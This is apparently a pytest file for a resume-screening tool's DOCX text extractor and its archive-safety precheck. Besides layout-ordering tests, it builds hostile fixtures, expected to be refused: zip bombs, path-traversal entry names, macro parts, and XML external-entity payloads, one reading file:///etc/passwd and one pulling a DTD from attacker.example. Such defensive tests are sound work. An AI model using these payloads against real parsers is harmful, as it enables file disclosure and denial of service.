"""DOCX text in document order, and the package precheck that refuses hostile archives before parsing."""
from __future__ import annotations

import io
import time
import zipfile

import pytest
from docx import Document
from PIL import Image

from screening.documents import CorruptFile, EncryptedFile, UnsafeFile, UnsupportedFileType, to_text
from tests.filegen import make_docx, make_docx_layout, rezip

DOCX = make_docx(["Ada Lovelace", "Machine Learning Engineer"], table=[["Python", "Expert"], ["SQL", "Good"]])
BODY = "word/document.xml"


def _docx(build) -> bytes:
    doc = Document()
    build(doc)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def test_paragraphs_tables_text_boxes_headers_and_footers_in_order():
    data = make_docx_layout(
        header="Ada Lovelace | ada@example.com",
        before=["Summary", "Engineer with eight years of experience."],
        table=[["Skill", "Level"], ["Python", "Expert"]],
        text_box=["Certifications", "AWS Machine Learning Specialty"],
        after=["Education", "M.Sc. Computer Science"],
        footer="Page 1",
    )
    result = to_text(data)
    assert result.kind == "docx" and result.pages == 1 and result.needs_review is None
    assert result.text.split("\n") == [
        "Ada Lovelace | ada@example.com",
        "Summary",
        "Engineer with eight years of experience.",
        "Skill | Level",
        "Python | Expert",
        "See the box:",
        "Certifications",  # once: Word writes a box twice (DrawingML and a VML fallback)
        "AWS Machine Learning Specialty",
        "Education",
        "M.Sc. Computer Science",
        "Page 1",
    ]


def test_table_cells_never_glue():
    data = make_docx([], table=[["Python", "SQL", "Spark"], ["", "Docker", ""]])
    assert to_text(data).text == "Python | SQL | Spark\nDocker"


def test_cells_with_several_paragraphs_keep_their_lines():
    def build(doc):
        table = doc.add_table(rows=1, cols=2)
        table.cell(0, 0).text = "Contact"
        table.cell(0, 0).add_paragraph("ada@example.com")
        table.cell(0, 1).text = "Experience"
        table.cell(0, 1).add_paragraph("Northwind, 2019 - Present")

    assert to_text(_docx(build)).text == "Contact\nada@example.com\nExperience\nNorthwind, 2019 - Present"


def test_nested_tables_are_read():
    def build(doc):
        outer = doc.add_table(rows=1, cols=1)
        inner = outer.cell(0, 0).add_table(rows=1, cols=2)
        inner.cell(0, 0).text = "Kubernetes"
        inner.cell(0, 1).text = "Terraform"

    assert "Kubernetes | Terraform" in to_text(_docx(build)).text


def test_runs_tabs_and_breaks_keep_word_boundaries():
    def build(doc):
        paragraph = doc.add_paragraph()
        paragraph.add_run("Machine")
        paragraph.add_run(" ")  # a run holding only a space
        paragraph.add_run("Learning")
        run = paragraph.add_run()
        run.add_tab()
        run.add_text("2019")
        run.add_break()
        run.add_text("Northwind")

    assert to_text(_docx(build)).text == "Machine Learning\t2019\nNorthwind"


def test_empty_docx_needs_review():
    result = to_text(_docx(lambda doc: None))
    assert result.text == "" and result.needs_review == "document is empty"


# --- the package precheck ----------------------------------------------------------------------------------------


def test_a_member_that_would_expand_past_the_total_is_refused_before_inflating():
    bomb = rezip(DOCX, add={"word/media/zeros.bin": b"\0" * (51 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024  # small on disk, 51 MB declared
    started = time.monotonic()
    with pytest.raises(UnsafeFile, match="50 MB"):
        to_text(bomb)
    assert time.monotonic() - started < 1


def test_a_member_with_a_huge_compression_ratio_is_refused():
    with pytest.raises(UnsafeFile, match="100 times"):
        to_text(rezip(DOCX, add={"word/media/zeros.bin": b"\0" * (2 * 1024 * 1024)}))


def test_too_many_entries_are_refused():
    with pytest.raises(UnsafeFile, match="501 parts|5\\d\\d parts"):
        to_text(rezip(DOCX, add={f"word/media/p{i}.png": b"x" for i in range(501 - 17)}))


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil.xml", "word\\..\\evil.xml", "C:/evil.xml", "word/../../x"])
def test_unsafe_entry_names_are_refused(name):
    with pytest.raises(UnsafeFile, match="unsafe path"):
        to_text(rezip(DOCX, add={name: b"<x/>"}))


def test_symlink_entries_are_refused():
    with pytest.raises(UnsafeFile, match="symbolic link"):
        to_text(rezip(DOCX, symlinks=("word/media/link",)))


def test_duplicate_entry_names_are_refused():
    buf = io.BytesIO(DOCX)
    with zipfile.ZipFile(buf, "a") as archive, pytest.warns(UserWarning):
        archive.writestr(BODY, b"<w:document/>")
    with pytest.raises(UnsafeFile, match="same name"):
        to_text(buf.getvalue())


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/VBAPROJECT.BIN"])
def test_macros_are_refused(name):
    with pytest.raises(UnsafeFile, match="macros"):
        to_text(rezip(DOCX, add={name: b"\xd0\xcf\x11\xe0 macro"}))


def test_macro_enabled_content_type_is_refused():
    with zipfile.ZipFile(io.BytesIO(DOCX)) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    with pytest.raises(UnsafeFile, match="macro-enabled"):
        to_text(rezip(DOCX, replace={"[Content_Types].xml": types}))


def test_missing_document_part_is_not_a_word_document():
    with pytest.raises(UnsupportedFileType):
        to_text(rezip(DOCX, drop=(BODY,)))


def test_missing_content_types_is_corrupt():
    with pytest.raises(CorruptFile):
        to_text(rezip(DOCX, drop=("[Content_Types].xml",)))


DTDS = [
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document/>',
    b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:document/>',
    b'<?xml version="1.0"?><!doctype w:document SYSTEM "http://attacker.example/evil.dtd"><w:document/>',
    b'<?xml version="1.0"?><w:document><!ENTITY x "y"></w:document>',
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]><d/>'.encode("utf-16"),
]


@pytest.mark.parametrize("xml", DTDS)
def test_xml_with_a_dtd_or_entities_is_refused(xml):
    with pytest.raises(UnsafeFile, match="DTD"):
        to_text(rezip(DOCX, replace={BODY: xml}))


def test_a_dtd_in_any_part_is_refused_not_just_the_body():
    with pytest.raises(UnsafeFile):
        to_text(rezip(DOCX, replace={"word/styles.xml": DTDS[0]}))


@pytest.mark.parametrize("name", ["word/evil.bin", "customXml/item1", "word/media/image1.png", "docProps/x.dat"])
@pytest.mark.parametrize("xml", [DTDS[0], DTDS[4], b"\xef\xbb\xbf\r\n  " + DTDS[1]])
def test_a_dtd_is_refused_by_content_whatever_the_part_is_named(name, xml):
    """[Content_Types].xml may declare any part name XML (an Override for "/word/evil.bin"), so the
    check reads what each part holds, not what it is called."""
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/' + name.encode() + b'" ContentType="application/xml"/></Types>'
    )
    with pytest.raises(UnsafeFile, match="DTD"):
        to_text(rezip(DOCX, add={name: xml}))
    with pytest.raises(UnsafeFile, match="DTD"):
        to_text(rezip(DOCX, add={name: xml}, replace={"[Content_Types].xml": types}))


def test_binary_parts_that_do_not_start_as_xml_are_left_alone():
    png = io.BytesIO()
    Image.new("RGB", (4, 4)).save(png, format="PNG")
    # Bytes that spell a DTD deep inside a picture are not XML; nothing parses them as such.
    text = to_text(rezip(DOCX, add={"word/media/image9.png": png.getvalue() + b"<!ENTITY x>"})).text
    assert text


def test_an_external_entity_never_reaches_the_text(tmp_path):
    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY-7d1f")
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY c SYSTEM "file://{canary}">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    with pytest.raises(UnsafeFile) as caught:
        to_text(rezip(DOCX, replace={BODY: xml}))
    assert "CANARY" not in str(caught.value)


def test_encrypted_zip_entries_are_refused():
    data = bytearray(rezip(DOCX))
    # Set the "encrypted" flag on every central directory entry, as a password-protected zip has.
    offset = data.find(b"PK\x01\x02")
    while offset >= 0:
        data[offset + 8] |= 0x01
        offset = data.find(b"PK\x01\x02", offset + 4)
    with pytest.raises(EncryptedFile):
        to_text(bytes(data))


@pytest.mark.parametrize("keep", [0.1, 0.5, 0.99])
def test_truncated_docx_is_corrupt(keep):
    with pytest.raises(CorruptFile):
        to_text(DOCX[: int(len(DOCX) * keep)])


def test_malformed_document_xml_is_corrupt():
    with pytest.raises(CorruptFile):
        to_text(rezip(DOCX, replace={BODY: b"<w:document><w:body><w:p>"}))


def _declare_size(data: bytes, name: str, size: int) -> bytes:
    """Rewrite the uncompressed size a zip's central directory declares for one entry."""
    data = bytearray(data)
    offset = data.find(b"PK\x01\x02")
    while offset >= 0:
        name_length = int.from_bytes(data[offset + 28 : offset + 30], "little")
        if data[offset + 46 : offset + 46 + name_length] == name.encode():
            data[offset + 24 : offset + 28] = size.to_bytes(4, "little")
        offset = data.find(b"PK\x01\x02", offset + 4)
    return bytes(data)


def test_declared_sizes_alone_decide_the_bomb_check():
    with pytest.raises(UnsafeFile, match="50 MB"):
        to_text(_declare_size(DOCX, BODY, 60 * 1024 * 1024))


def test_an_entry_that_inflates_past_its_declared_size_is_corrupt():
    with zipfile.ZipFile(io.BytesIO(DOCX)) as archive:
        body = archive.read(BODY)
    padded = rezip(DOCX, replace={BODY: body + b" " * 500_000})
    # Declared small, the entry passes the ratio check; reading it must still stop at the declared size.
    with pytest.raises(CorruptFile):
        to_text(_declare_size(padded, BODY, len(body)))


def test_a_damaged_compressed_part_is_corrupt():
    data = bytearray(DOCX)
    name_length = int.from_bytes(data[26:28], "little")
    extra_length = int.from_bytes(data[28:30], "little")
    start = 30 + name_length + extra_length  # the first entry's compressed bytes
    data[start + 8 : start + 16] = b"\xff" * 8
    with pytest.raises(CorruptFile):
        to_text(bytes(data))


def test_a_zip_version_zipfile_cannot_read_is_corrupt():
    data = bytearray(DOCX)
    offset = data.find(b"PK\x01\x02")
    data[offset + 6] = 221  # "version needed to extract" 22.1 (found by the fuzzer)
    with pytest.raises(CorruptFile):
        to_text(bytes(data))


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_a_dtd_in_wide_encodings_without_bom_is_refused(encoding):
    xml = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x "y">]><d/>'.encode(encoding)
    with pytest.raises(UnsafeFile, match="DTD"):
        to_text(rezip(DOCX, replace={BODY: xml}))


def test_a_part_in_utf7_is_refused():
    xml = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE d+AD4-<d/>'
    with pytest.raises(UnsafeFile, match="encoding"):
        to_text(rezip(DOCX, replace={BODY: xml}))


def test_a_docx_holding_only_a_picture_needs_review_as_a_scan():
    picture = io.BytesIO()
    Image.new("L", (60, 80), color=200).save(picture, format="PNG")
    picture.seek(0)
    result = to_text(_docx(lambda doc: doc.add_picture(picture)))
    assert result.text == "" and result.needs_review == "no text, only pictures (a scanned resume?)"
